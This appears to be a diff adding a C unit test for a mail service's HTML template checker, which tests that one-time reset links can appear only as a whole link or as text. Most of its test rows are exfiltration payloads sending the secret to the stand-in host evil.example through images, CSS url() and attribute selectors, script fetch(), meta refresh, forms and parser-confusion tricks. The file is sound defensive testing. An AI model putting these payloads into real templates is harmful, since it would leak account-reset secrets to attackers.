@@ -1,0 +1,119 @@
+/*
+ * test_maild_template_html.c - where the HTML part of a template may have a variable with a one-time link.
+ */
+#include <stdlib.h>
+#include <string.h>
+
+#include "maild/template_html.h"
+#include "tests/unit/unit.h"
+
+static const struct {
+    const char *label, *html;
+    bool fine;
+} rows[] = {
+    {"no secret", "<script>x</script><img src=\"{{projectName}}\">", true},
+    {"text", "<p>{{resetUrl}}</p>", true},
+    {"no element at all", "{{resetUrl}}", true},
+    {"whole href", "<a href=\"{{resetUrl}}\">Choose</a>", true},
+    {"whole href with blanks in the placeholder",
+     "<a href='{{ resetUrl }}' style=\"color:red\">x</a>", true},
+    {"href and text, with an image",
+     "<html><head><title>x</title><style>p{color:red}</style></head><body><img "
+     "src=\"https://a.example/l.png\" alt=\"{{projectName}}\"><a "
+     "href=\"{{resetUrl}}\">{{resetUrl}}</a></body></html>",
+     true},
+    {"conditional comments around a table",
+     "<!--[if mso]><table><tr><td><![endif]--><a href=\"{{verifyUrl}}\">x</a><!--[if "
+     "mso]></td></tr></table>"
+     "<![endif]-->",
+     true},
+    {"image", "<img src=\"{{resetUrl}}\">", false},
+    {"image, as part of an address", "<img src=\"https://evil.example/?{{resetUrl}}\">", false},
+    {"part of a href", "<a href=\"https://evil.example/?u={{resetUrl}}\">x</a>", false},
+    {"href with a blank", "<a href=\" {{resetUrl}}\">x</a>", false},
+    {"href without quotes", "<a href={{resetUrl}}>x</a>", false},
+    {"href without quotes, and more", "<a href={{resetUrl}}ping=//evil.example>x</a>", false},
+    {"ping", "<a ping=\"https://evil.example\" href=\"{{resetUrl}}\">x</a>", false},
+    {"event handler", "<a onmouseover=\"x()\" href=\"{{resetUrl}}\">x</a>", false},
+    {"another element's href", "<area href=\"{{resetUrl}}\">", false},
+    {"base", "<base href=\"{{resetUrl}}\">", false},
+    {"link", "<link rel=stylesheet href=\"//evil.example\">{{resetUrl}}", false},
+    {"meta refresh", "<meta http-equiv=refresh content=\"0;url=//evil.example/{{resetUrl}}\">",
+     false},
+    {"style attribute", "<p style=\"background:url(//evil.example/{{resetUrl}})\">x</p>", false},
+    {"style sheet", "<style>p{background:url(//evil.example/{{resetUrl}})}</style>", false},
+    {"style sheet that reads the href",
+     "<style>a[href*=\"secret=a\"]{background:url(//evil.example/a)}</style><a "
+     "href=\"{{resetUrl}}\">x</a>",
+     false},
+    {"the same with escapes",
+     "<style>a[href*=a]{background:\\75rl(//evil.example/a)}</style><a href=\"{{resetUrl}}\">x</a>",
+     false},
+    {"script", "<script>fetch('//evil.example/{{resetUrl}}')</script>", false},
+    {"script beside text", "<script>x</script>{{resetUrl}}", false},
+    {"comment", "<!-- {{resetUrl}} -->", false},
+    {"conditional comment", "<!--[if mso]><img src=\"//evil.example/?{{resetUrl}}\"><![endif]-->",
+     false},
+    {"image that a conditional comment opens",
+     "<!--[if mso]><img src=\"//evil.example/?<![endif]-->{{resetUrl}}\">", false},
+    {"image that is never closed", "<img src='//evil.example/?{{resetUrl}}", false},
+    {"image that ends later", "<img src='//evil.example/?<p>{{resetUrl}}</p>'>", false},
+    {"second attribute of that name", "<a href=\"//evil.example\" href=\"{{resetUrl}}\">x</a>",
+     false},
+    {"image with two addresses", "<img src=\"x\" src=\"//evil.example/{{resetUrl}}\">", false},
+    {"field of a form",
+     "<form action=\"//evil.example\"><textarea name=a>{{resetUrl}}</textarea></form>", false},
+    {"noscript",
+     "<noscript><p title=\"</noscript><img src='//evil.example/?\"></p></noscript>{{resetUrl}}'>",
+     false},
+    {"SVG", "<svg><a href=\"{{resetUrl}}\">x</a></svg>", false},
+    {"frame", "<iframe srcdoc=\"{{resetUrl}}\"></iframe>", false},
+    {"name of an element", "<a{{resetUrl}}>", false},
+    {"name of an attribute", "<a {{resetUrl}}=\"x\">x</a>", false},
+    {"document type", "<!doctype {{resetUrl}}>", false},
+    {"title", "<title>{{resetUrl}}</title>", false},
+    {"a name as an attribute", "<a {{projectName}} href=\"{{resetUrl}}\">x</a>", false},
+    {"a name without quotes", "<a class={{projectName}} href=\"{{resetUrl}}\">x</a>", false},
+    {"a name in a style sheet", "<style>{{projectName}}</style>{{resetUrl}}", false},
+    {"one of two", "<p>{{resetUrl}}</p><img src=\"{{resetUrl}}\">", false},
+};
+
+static void secrets_stay_with_the_recipient(void)
+{
+    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
+        CLEANUP(arena_destroy) struct arena *arena = arena_new();
+        const char *why = template_html_check(arena, rows[i].html);
+
+        UNIT_CHECK((why == NULL) == rows[i].fine, "%s: %s", rows[i].label, why ? why : "accepted");
+    }
+}
+
+/* A part may have 256 KiB: what takes the parser long, or much memory, is refused soon. */
+static void large_parts_end(void)
+{
+    static const char *const pieces[] = {
+        "<b>", "<p>", "<b><p>", "<table>", "<a>", "x", "<i id={{projectName}}>"};
+
+    for (size_t i = 0; i < ARRAY_SIZE(pieces); i++) {
+        CLEANUP(arena_destroy) struct arena *arena = arena_new();
+        size_t size = 262144;
+        char *html = calloc(1, size + 64), *end = html;
+
+        while ((size_t)(end - html) + strlen(pieces[i]) < size)
+            end = stpcpy(end, pieces[i]);
+        strcpy(end, "{{resetUrl}}");
+        (void)!template_html_check(arena, html);
+        CU_ASSERT_TRUE(arena_used(arena) < 64 << 20);
+        free(html);
+    }
+}
+
+int main(void)
+{
+    static const struct unit_case cases[] = {
+        {"secrets stay with the recipient", secrets_stay_with_the_recipient},
+        {"large parts end", large_parts_end},
+    };
+
+    return unit_run("maild template html", cases, ARRAY_SIZE(cases));
+}
